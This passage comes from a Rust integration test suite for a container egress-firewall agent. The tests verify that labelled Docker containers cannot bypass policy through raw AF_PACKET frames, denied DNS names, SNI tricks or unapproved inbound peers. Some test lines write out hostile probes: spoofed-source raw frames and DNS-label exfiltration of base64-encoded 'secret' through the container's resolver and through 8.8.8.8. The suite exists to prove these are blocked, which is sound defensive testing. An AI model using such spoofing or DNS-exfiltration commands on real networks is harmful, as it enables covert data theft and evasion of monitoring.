        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let r = (|| -> std::io::Result<String> {
                let mut s = TcpStream::connect_timeout(
                    &"127.0.0.1:18080".parse().expect("test value"),
                    Duration::from_secs(2),
                )?;
                s.set_read_timeout(Some(Duration::from_secs(3)))?;
                std::io::Write::write_all(&mut s, b"GET / HTTP/1.0\r\n\r\n")?;
                let mut buf = String::new();
                s.read_to_string(&mut buf)?;
                Ok(buf)
            })();
            match r {
                Ok(b) if b.contains("hello-published") => return b,
                _ if Instant::now() > deadline => return format!("{r:?}"),
                _ => std::thread::sleep(Duration::from_millis(200)),
            }
        }
    });
    assert!(got.contains("hello-published"), "published port: {got}");

    // AF_PACKET: hand-made IPv4/UDP frames to the host never arrive from an enforced container
    // (BPF-LSM refuses the socket where available; the nftables bridge layer drops the frame),
    // neither with its own address nor spoofing a neighbour's.
    let sink = env
        .d
        .netns
        .run(|| std::net::UdpSocket::bind("198.18.0.1:9999"))
        .expect("udp sink");
    sink.set_read_timeout(Some(Duration::from_millis(300)))
        .expect("timeout");
    let br_mac = env.d.netns.sh(&format!(
        "cat /sys/class/net/{}/address",
        egress_tests::docker::BRIDGE
    ));
    let br_mac = br_mac.trim();
    let upstream_ip = UPSTREAM_IP;
    let script = format!(
        "ip=$(ip -4 -o addr show eth0 | awk '{{print $4}}' | cut -d/ -f1); \
         egress-test-rawsend eth0 {br_mac} $ip 198.18.0.1 9999 RAW-OWN; \
         egress-test-rawsend eth0 {br_mac} {upstream_ip} 198.18.0.1 9999 RAW-SPOOF"
    );
    env.start_ok(
        "rawer",
        &["--label", "egress.policy=web"],
        &["sleep", "600"],
    );
    assert!(env.wait_enforced("rawer", 2));
    assert!(
        env.wait_host_layer("rawer"),
        "host layer never enforced for rawer"
    );
    let out = env.exec_out("rawer", &script);
    assert!(
        out.contains("SENT") || out.contains("SOCKET-DENIED"),
        "rawsend did not run: {out}"
    );
    let mut got = drain(&sink);
    assert!(
        got.is_empty(),
        "AF_PACKET frames from an enforced container arrived: {got:?} ({out})"
    );
    // From the first instruction: the BPF-LSM hook refuses the socket where it loads; where it
    // doesn't (this machine), the L2 guard on Docker's bridges drops frames of a container the
    // agent has not classified yet. Either way nothing may arrive.
    let out = env.run_out(&["--label", "egress.policy=web"], &script);
    got.extend(drain(&sink));
    assert!(
        got.is_empty(),
        "AF_PACKET frames from a just-started enforced container arrived: {got:?} ({out})"
    );
    // Control: the same frame from an unlabelled container arrives (the probe works) once the
    // agent has classified it (the L2 guard holds unclassified ports for their first ~100 ms).
    let out = env.run_out(
        &[],
        &format!("sleep 1; {}", script.replace("RAW-OWN", "RAW-CONTROL")),
    );
    let got = drain(&sink);
    assert!(
        got.iter().any(|g| g == "RAW-CONTROL"),
        "control frame did not arrive: {got:?} ({out})"
    );
}

#[test]
fn harness_leaves_no_trace() {
    if !require_root() {
        return;
    }
    let _g = lock();
    // Only what this harness could create is compared (other suites may run alongside on a
    // developer machine and add their own links).
    let ours = |cmd: &str| {
        egress_tests::docker::sh(cmd)
            .lines()
            .filter_map(|l| {
                let name = l.split(": ").nth(1)?.split('@').next()?;
                (name.starts_with("egd-") || name == "egress0").then(|| name.to_owned())
            })
            .collect::<Vec<_>>()
    };
    let rules_before = egress_tests::docker::sh("nft list ruleset");
    let links_before = ours("ip -o link show");
    {
        let env = env_new();
        let out = env.run_out(&["--label", "egress.policy=deny_all"], DIRECT);
        assert!(out.contains("DIRECT-FAIL"), "{out}");
        // While it runs, the agent's tables exist only inside the test namespace.
        assert!(env.d.netns.sh("nft list tables").contains("egress_agent"));
        assert!(!egress_tests::docker::sh("nft list tables").contains("egress_agent"));
    }
    assert_eq!(
        egress_tests::docker::sh("nft list ruleset"),
        rules_before,
        "host nftables changed"
    );
    assert_eq!(
        ours("ip -o link show"),
        links_before,
        "host interfaces changed"
    );
    let pid = std::process::id();
    for left in [
        format!("/tmp/egress-test-docker-{pid}"),
        format!("/run/egress-test-docker-{pid}.sock"),
    ] {
        assert!(!std::path::Path::new(&left).exists(), "{left} left behind");
    }
    assert!(
        !sh_ok(&format!("ip netns pids egd-docker-{pid}")),
        "network namespace left behind"
    );
    for mount in egress_tests::docker::cgroup_mounts() {
        let left = mount.join(format!("egress-test-{pid}"));
        assert!(
            !left.exists(),
            "cgroup parent left behind: {}",
            left.display()
        );
    }
}

/// Every datagram `sink` receives until its read timeout passes with nothing new.
fn drain(sink: &std::net::UdpSocket) -> Vec<String> {
    let mut got = Vec::new();
    let mut buf = [0u8; 256];
    while let Ok(n) = sink.recv(&mut buf) {
        got.push(String::from_utf8_lossy(&buf[..n]).into_owned());
    }
    got
}

/// Transparent interception and the agent's DNS for a labelled container that is given no proxy
/// variable: Docker's embedded resolver (127.0.0.11) is answered by the agent, an allowed name is
/// fetched through the kernel redirect (plain HTTP by Debian's curl and busybox wget, HTTPS by a
/// rustls client with SNI, python urllib and node fetch against a TLS upstream with the test's
/// CA), and every refusal is checked where it would have arrived: the TLS upstream's request log
/// and the canary.
#[test]
fn transparent_without_proxy_variables() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let env = env_new();
    // The TLS upstream `tls.test` on the gateway address (the dockerd side), port 8443.
    let ca_dir = TempDir::new("docker-transparent");
    let ca = TestCa::new(ca_dir.path(), &["tls.test", "denied.test"]);
    let tls = env.d.netns.run(|| {
        WebServer::start(
            format!("{GATEWAY}:8443").parse().expect("addr"),
            Some(&ca),
            "docker-tls",
        )
    });
    env.write_config(&env.config_text(
        r#"[policies.tp]
allow_hosts = ["allowed.test", "tls.test"]
allow_ports = [8080, 8443, 9000]
resolve_private = ["198.18.0.0/24"]
[policies.canary]
allow_cidrs = ["198.18.0.1/32"]
"#,
    ));
    let o = env.cli(&["reload"]);
    assert!(o.status.success(), "reload refused: {o:?}");
    let before = env.canary.count();
    let mount = format!("{}:/ca:ro", ca_dir.path().display());
    // Started first, then used once its host layer is in place: on hosts without BPF-LSM (this
    // one) the L2 guard drops a new container's frames until the agent has classified it, and a
    // DNS query lost there is retried by the resolver only after 5 s.
    // The host's /usr (read-only): Debian's python3 and nodejs as the container's clients.
    env.start_ok(
        "tp-1",
        &[
            "--label",
            "egress.policy=tp",
            "-v",
            &mount,
            "-v",
            "/usr:/usr:ro",
        ],
        &["sleep", "600"],
    );
    assert!(env.wait_enforced("tp-1", 2));
    assert!(
        env.wait_host_layer("tp-1"),
        "host layer never enforced for tp-1"
    );
    let o = env.d.docker(&[
        "exec",
        "tp-1",
        "sh",
        "-c",
        "grep nameserver /etc/resolv.conf; env | grep -i proxy; echo ---; \
         curl -sS -m 5 http://allowed.test:8080/; echo ---; \
         egress-probe tls-get tls.test tls.test 8443 /ca/ca.pem; echo ---; \
         nslookup denied.test && echo RESOLVED-DENIED || echo NX-DENIED; echo ---; \
         egress-probe tls-get denied.test 198.18.0.1 8443 /ca/ca.pem || echo SNI-REFUSED; \
         egress-probe tls-get 198.18.0.1 198.18.0.1 8443 /ca/ca.pem || echo NOSNI-REFUSED; \
         curl -fsS -m 5 http://198.18.0.1:9000/ && echo IP-OK || echo IP-REFUSED; \
         (printf 'GET / HTTP/1.1\\r\\nHost: denied.test:9000\\r\\n\\r\\n'; sleep 1) | nc -w 3 198.18.0.1 9000; echo ---; \
         (printf 'GET / HTTP/1.1\\r\\nHost: allowed.test:9000\\r\\n\\r\\n'; sleep 1) | nc -w 3 198.18.0.1 9000; echo END",
    ]);
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(
        out.contains("nameserver 127.0.0.11") && !out.to_lowercase().contains("proxy="),
        "the container should use Docker's embedded resolver and have no proxy variable: {out}"
    );
    assert!(
        out.contains("hello-upstream"),
        "allowed name over plain HTTP without proxy variables: {out}"
    );
    assert!(
        out.contains("TLS-OK upstream-ok docker-tls"),
        "allowed name over TLS (SNI tls.test, end to end with the test's CA): {out}"
    );
    // Real clients that have no proxy support configured: python urllib, node fetch, busybox
    // wget — each reaches the allowed name, and fails at once (no such name) for a denied one.
    let m = std::process::id();
    let clients = env.d.docker(&[
        "exec",
        "tp-1",
        "sh",
        "-c",
        &format!(
            r#"echo "python: $(/usr/bin/python3 -c "import urllib.request,ssl; c=ssl.create_default_context(cafile='/ca/ca.pem'); print(urllib.request.urlopen('https://tls.test:8443/py-{m}', context=c, timeout=10).read().decode().strip())" 2>&1)"
echo "node: $(NODE_EXTRA_CA_CERTS=/ca/ca.pem /usr/bin/node -e "fetch('https://tls.test:8443/node-{m}').then(r=>r.text()).then(t=>process.stdout.write(t.trim())).catch(e=>{{console.log(String(e.cause||e));process.exit(1)}})" 2>&1)"
echo "wget: $(wget -q -O - http://allowed.test:8080/ 2>&1)"
echo "python-denied: $(/usr/bin/python3 -c "import urllib.request; urllib.request.urlopen('http://denied.test:8080/py-denied-{m}', timeout=10)" 2>&1 | tail -1)"
echo "node-denied: $(/usr/bin/node -e "fetch('http://denied.test:8080/node-denied-{m}').then(()=>console.log('FETCHED')).catch(e=>{{console.log(String(e.cause||e));process.exit(1)}})" 2>&1)""#
        ),
    ]);
    let clients = format!(
        "{}{}",
        String::from_utf8_lossy(&clients.stdout),
        String::from_utf8_lossy(&clients.stderr)
    );
    for line in [
        "python: upstream-ok docker-tls",
        "node: upstream-ok docker-tls",
        "wget: hello-upstream",
    ] {
        assert!(clients.contains(line), "expected `{line}`:\n{clients}");
    }
    assert!(
        clients
            .lines()
            .any(|l| l.starts_with("python-denied:") && l.contains("Name or service not known")),
        "python: a denied name must not resolve:\n{clients}"
    );
    assert!(
        clients
            .lines()
            .any(|l| l.starts_with("node-denied:") && l.contains("ENOTFOUND")),
        "node: a denied name must not resolve:\n{clients}"
    );
    let hits = tls.hits();
    assert_eq!(
        hits.len(),
        3,
        "only the allowed TLS requests arrived: {hits:?}"
    );
    for path in [format!("py-{m}"), format!("node-{m}")] {
        assert!(tls.saw(&path), "{path} did not arrive: {hits:?}");
    }
    assert!(
        out.contains("NX-DENIED") && !out.contains("RESOLVED-DENIED"),
        "a name outside the policy must not resolve: {out}"
    );
    assert!(
        out.contains("SNI-REFUSED") && out.contains("NOSNI-REFUSED"),
        "a denied SNI and a ClientHello without SNI must be refused: {out}"
    );
    assert!(
        out.contains("IP-REFUSED"),
        "an IP literal Host must be refused: {out}"
    );
    assert!(out.contains("END"), "{out}");
    // Neither the IP literal, nor a foreign Host, nor an allowed Host sent to the canary's
    // address (the proxy dials allowed.test's own address, never the client's) arrived.
    assert_eq!(
        env.canary.count(),
        before,
        "a transparent refusal reached the canary: {out}"
    );
    for (host, port) in [("denied.test", 53), ("denied.test", 8443)] {
        assert!(
            env.wait_event(
                |e| e["container"]["name"] == "tp-1"
                    && e["host"] == host
                    && e["port"] == port
                    && e["policy"] == "tp",
                Duration::from_secs(5)
            ),
            "no denial event for {host}:{port}: {:?}",
            env.events()
        );
    }
}

/// Connect from the dockerd side (the bridge gateway, outside every policy here) to `addr` and
/// read what the server sends within 3 s.
fn pull(env: &Env, addr: &str) -> String {
    let addr: std::net::SocketAddr = addr.parse().expect("test value");
    env.d.netns.run(|| {
        let r = (|| -> std::io::Result<String> {
            let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3))?;
            s.set_read_timeout(Some(Duration::from_secs(3)))?;
            let mut buf = Vec::new();
            match s.read_to_end(&mut buf) {
                Ok(_) => {}
                Err(e) if !buf.is_empty() => {
                    return Ok(format!("{} ({e})", String::from_utf8_lossy(&buf)));
                }
                Err(e) => return Err(e),
            }
            Ok(String::from_utf8_lossy(&buf).into_owned())
        })();
        format!("{r:?}")
    })
}

/// Inbound connections are policy too (#10 part 2), for labelled containers: a listener of a
/// `deny_all` or allowlist container sends nothing to a peer outside the policy; `allow_inbound`
/// lets a named peer in; a published port (`-p`) is reachable by default and not at all with
/// `allow_published_ports = false`. Each server answers its first client with a marker, so a
/// payload that arrives is seen.
#[test]
fn inbound_connections_follow_the_policy() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let env = env_new();
    env.write_config(&env.config_text(
        r#"[policies.listener]
allow_hosts = ["allowed.test"]
allow_inbound = [{ cidr = "198.18.0.1/32", ports = [7001] }]
[policies.sealed]
mode = "deny_all"
allow_published_ports = false
[policies.canary]
allow_cidrs = ["198.18.0.1/32"]
"#,
    ));
    let o = env.cli(&["reload"]);
    assert!(o.status.success(), "reload refused: {o:?}");
    let serve = |name: &str, extra: &[&str], port: u16| {
        let mut args = vec!["--label"];
        args.extend_from_slice(extra);
        let cmd = format!("exec egress-probe serve {port} PAYLOAD-{name}");
        env.start_ok(name, &args, &["sh", "-c", &cmd]);
        assert!(env.wait_enforced(name, 2), "{name} never enforced");
        env.d.ip_of(name)
    };
    let deny = serve("in-deny", &["egress.policy=deny_all"], 7000);
    let allow_other_port = serve("in-list", &["egress.policy=listener"], 7000);
    let allowed = serve("in-allowed", &["egress.policy=listener"], 7001);
    // Reached through the published port only (docker-proxy connects from the gateway: the
    // kernel can't tell it from any other peer there, so the port is open to the gateway too).
    serve(
        "in-pub",
        &["egress.policy=deny_all", "-p", "18091:7000"],
        7000,
    );
    let sealed = serve(
        "in-sealed",
        &["egress.policy=sealed", "-p", "18092:7000"],
        7000,
    );
    for (name, addr) in [
        ("in-deny", format!("{deny}:7000")),
        ("in-list", format!("{allow_other_port}:7000")),
        ("in-sealed", "127.0.0.1:18092".to_owned()),
        ("in-sealed", format!("{sealed}:7000")),
    ] {
        let got = pull(&env, &addr);
        assert!(
            !got.contains("PAYLOAD"),
            "{name}: a peer outside the policy pulled data from {addr}: {got}"
        );
    }
    // Positive controls: the same kind of server answers an allowed peer.
    let got = pull(&env, &format!("{allowed}:7001"));
    assert!(
        got.contains("PAYLOAD-in-allowed"),
        "allow_inbound peer: {got}"
    );
    let got = pull(&env, "127.0.0.1:18091");
    assert!(
        got.contains("PAYLOAD-in-pub"),
        "published port (default allowed): {got}"
    );
    // The refused servers are still waiting: nobody was ever served.
    for name in ["in-deny", "in-list", "in-sealed"] {
        assert!(
            env.wait_state(name, "running", Duration::from_secs(1)),
            "{name} exited: it served someone"
        );
    }
}

/// Direct ports in Docker (`{ host, ports }`): the agent's DNS answer to one container opens the
/// answered address on that port in both layers (its cgroup's kernel allowance and its host-layer
/// set), for that container only and until the answer's TTL; the same port at another address,
/// another port at the answered address, and the same address from a container that never asked
/// stay refused — and nothing of theirs arrives. Also: labels of a denied name (UDP to Docker's
/// resolver, TCP to `8.8.8.8`) never reach the agent's upstream resolver.
#[test]
fn direct_ports_follow_dns_answers() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let mut env = env_new();
    const OTHER_IP: &str = "45.90.0.2";
    env.d.netns.sh(&format!(
        "ip addr add {DIRECT_IP}/32 dev lo; ip addr add {OTHER_IP}/32 dev lo"
    ));
    let sock = |s: String| s.parse::<std::net::SocketAddr>().expect("test value");
    let listeners = env.d.netns.run(|| {
        Canary::on(
            &[
                sock(format!("{DIRECT_IP}:2222")),
                sock(format!("{DIRECT_IP}:2223")),
                sock(format!("{OTHER_IP}:2222")),
            ],
            &[],
        )
    });
    // The agent's upstream resolver, recording every query: `short.test` with TTL 1
    // (`direct.test` comes from the hosts file, with a long TTL).
    let dns_dir = TempDir::new("docker-direct-dns");
    let dns = env.d.netns.run(|| {
        Dnsmasq::start(
            dns_dir.path(),
            sock("127.0.0.1:5353".into()),
            &[("short.test", OTHER_IP.parse().expect("test value"))],
        )
    });
    env.write_config(
        &env.config_text(
            r#"[policies.ssh]
allow_hosts = [{ host = "direct.test", ports = [2222] }, { host = "short.test", ports = [2222] }]
allow_ports = [8080]
[policies.canary]
allow_cidrs = ["198.18.0.1/32"]
"#,
        )
        .replace("nameservers = []", "nameservers = [\"127.0.0.1:5353\"]"),
    );
    // `[dns]` takes effect on a restart only.
    env.kill_agent();
    env.start_agent();
    for name in ["ds-1", "ds-2"] {
        // The host's /usr (read-only) for dig.
        env.start_ok(
            name,
            &["--label", "egress.policy=ssh", "-v", "/usr:/usr:ro"],
            &["sleep", "600"],
        );
    }
    for name in ["ds-1", "ds-2"] {
        assert!(
            env.wait_host_layer(name),
            "host layer never enforced for {name}"
        );
    }
    let m = std::process::id();
    let out = env.exec_out(
        "ds-1",
        &format!(
            "echo \"before $(egress-probe tcp {DIRECT_IP} 2222 before-{m})\"; \
             echo \"dns $(nslookup direct.test 2>&1 | tr '\\n' ' ')\"; \
             echo \"after $(egress-probe tcp {DIRECT_IP} 2222 after-{m})\"; \
             echo \"otheraddr $(egress-probe tcp {OTHER_IP} 2222 otheraddr-{m})\"; \
             echo \"otherport $(egress-probe tcp {DIRECT_IP} 2223 otherport-{m})\"; echo END"
        ),
    );
    let other = env.exec_out(
        "ds-2",
        &format!(
            "echo \"othercontainer $(egress-probe tcp {DIRECT_IP} 2222 othercontainer-{m})\"; \
             echo \"exfil-udp $(nslookup c2VjcmV0.x{m}.denied.test 2>&1 | tr '\\n' ' ')\"; \
             echo \"exfil-tcp $(/usr/bin/dig +tcp +tries=1 +time=3 @8.8.8.8 dGNw.x{m}.denied.test 2>&1 | grep -E 'status|connection' | tr '\\n' ' ')\""
        ),
    );
    assert!(
        out.contains("before err 1 "),
        "before the answer: EPERM\n{out}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("dns ") && l.contains(DIRECT_IP)),
        "the agent answered:\n{out}"
    );
    assert!(
        out.contains("after ok"),
        "after the answer: connected\n{out}"
    );
    assert!(out.contains("otheraddr err 1 "), "{out}");
    assert!(out.contains("otherport err 1 "), "{out}");
    assert!(other.contains("othercontainer err 1 "), "{other}");
    assert!(listeners.wait_for(&format!("after-{m}"), Duration::from_secs(3)));
    for refused in ["before", "otheraddr", "otherport", "othercontainer"] {
        assert!(
            !listeners.saw(&format!("{refused}-{m}")),
            "{refused}: arrived at the listener"
        );
    }
    // Denied names: NXDOMAIN from the agent, over UDP and TCP, and their labels never left it.
    assert!(
        other
            .lines()
            .any(|l| l.starts_with("exfil-udp") && l.contains("NXDOMAIN")),
        "{other}"
    );
    assert!(
        other
            .lines()
            .any(|l| l.starts_with("exfil-tcp") && l.contains("status: NXDOMAIN")),
        "{other}"
    );
    assert_eq!(
        dns.queries_for(&format!("x{m}")),
        0,
        "a denied name reached the upstream resolver: {}",
        dns.log()
    );
    // The second layer holds the address for ds-1 only, with the answer's TTL as its timeout.
    let id = env.d.inspect("ds-1", "{{.Id}}");
    let set = format!("d{}p2222", &id.trim()[..12]);
    let list = |set: &str| {
        env.d
            .netns
            .sh(&format!("nft list set inet egress_agent {set}"))
    };
    let listing = list(&set);
    assert!(
        listing.contains(DIRECT_IP) && listing.contains("expires"),
        "ds-1's direct set: {listing}"
    );
    let id2 = env.d.inspect("ds-2", "{{.Id}}");
    let listing2 = list(&format!("d{}p2222", &id2.trim()[..12]));
    assert!(
        !listing2.contains(DIRECT_IP),
        "ds-2 never asked: {listing2}"
    );
    assert!(
        env.wait_event(
            |e| e["source"] == "kernel" && e["container"]["name"] == "ds-1" && e["port"] == 2223,
            Duration::from_secs(5)
        ),
        "no kernel denial event for the other port: {:?}",
        env.events()
    );

    // A short TTL (1 s from the upstream): open, then closed again in both layers.
    let expiry = env.exec_out(
        "ds-1",
        &format!(
            "nslookup short.test >/dev/null 2>&1; i=0; while [ $i -lt 40 ]; do \
             r=$(egress-probe tcp {OTHER_IP} 2222 exp-{m}-$i); echo \"$i $r\"; \
             case \"$r\" in err*) echo EXPIRED; break;; esac; i=$((i+1)); sleep 0.5; done"
        ),
    );
    assert!(
        expiry.starts_with("0 ok"),
        "short.test was answered and opened:\n{expiry}"
    );
    assert!(
        expiry.contains("EXPIRED"),
        "the allowance must end with the TTL:\n{expiry}"
    );
    assert!(listeners.wait_for(&format!("exp-{m}-0"), Duration::from_secs(3)));
    let expired = expiry
        .lines()
        .rfind(|l| l.contains(" err "))
        .expect("an expired attempt");
    // Refused at connect() (EPERM), not let through by the cgroup program and then dropped by
    // the host layer (the kernel allowance ends before the nft element does).
    assert!(
        expired.contains(" err 1 "),
        "the expired attempt must be refused at once:\n{expiry}"
    );
    let last = expired
        .split(' ')
        .next()
        .expect("attempt number")
        .to_owned();
    assert!(
        !listeners.saw(&format!("exp-{m}-{last}")),
        "attempt {last} arrived after the TTL"
    );
    assert!(
        dns.queries_for("short.test") > 0,
        "the agent asked its upstream"
    );
    let deadline = Instant::now() + Duration::from_secs(5);
    while list(&set).contains(OTHER_IP) {
        assert!(
            Instant::now() < deadline,
            "the nft element outlived its TTL: {}",
            list(&set)
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    // A reload that drops direct.test's ports takes back what its answer opened, in both layers,
    // at once (not at the end of its TTL).
    assert!(
        env.exec_out(
            "ds-1",
            &format!("egress-probe tcp {DIRECT_IP} 2222 prereload-{m}")
        )
        .contains("ok"),
        "still open before the reload"
    );
    env.write_config(
        &env.config_text(
            r#"[policies.ssh]
allow_hosts = ["direct.test", { host = "short.test", ports = [2222] }]
allow_ports = [8080]
[policies.canary]
allow_cidrs = ["198.18.0.1/32"]
"#,
        )
        .replace("nameservers = []", "nameservers = [\"127.0.0.1:5353\"]"),
    );
    let o = env.cli(&["reload"]);
    assert!(o.status.success(), "reload refused: {o:?}");
    let after_reload = env.exec_out(
        "ds-1",
        &format!("egress-probe tcp {DIRECT_IP} 2222 postreload-{m}"),
    );
    assert!(after_reload.contains("err 1 "), "{after_reload}");
    assert!(
        !listeners.saw(&format!("postreload-{m}")),
        "arrived after the reload"
    );
    assert!(
        !list(&set).contains(DIRECT_IP),
        "the nft element outlived the reload: {}",
        list(&set)
    );
    // Stopped: its set goes with its rules.
    env.d.docker_ok(&["rm", "-f", "ds-1", "ds-2"]);
    assert!(
        env.wait_log(
            |_| !env
                .d
                .netns
                .sh("nft list table inet egress_agent")
                .contains(&set),
            Duration::from_secs(10)
        ),
        "ds-1's set outlived it"
    );
}
